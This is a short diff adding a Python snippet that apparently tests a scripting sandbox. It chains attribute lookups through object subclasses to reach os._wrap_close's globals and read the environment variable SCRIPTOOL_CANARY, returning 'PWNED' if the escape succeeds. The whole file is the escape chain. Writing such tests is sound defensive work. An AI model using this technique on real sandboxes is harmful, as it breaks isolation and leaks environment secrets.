@@ -1,0 +1,9 @@
+import collections
+import operator
+
+real = collections.Counter.copy(int)
+Getter = real(operator.attrgetter("a"))
+for kind in Getter("__class__.__base__.__subclasses__")(())():
+    if kind.__name__ == "_wrap_close":
+        return "PWNED " + Getter("__init__.__globals__")(kind)["environ"]["SCRIPTOOL_CANARY"]
+return "no"
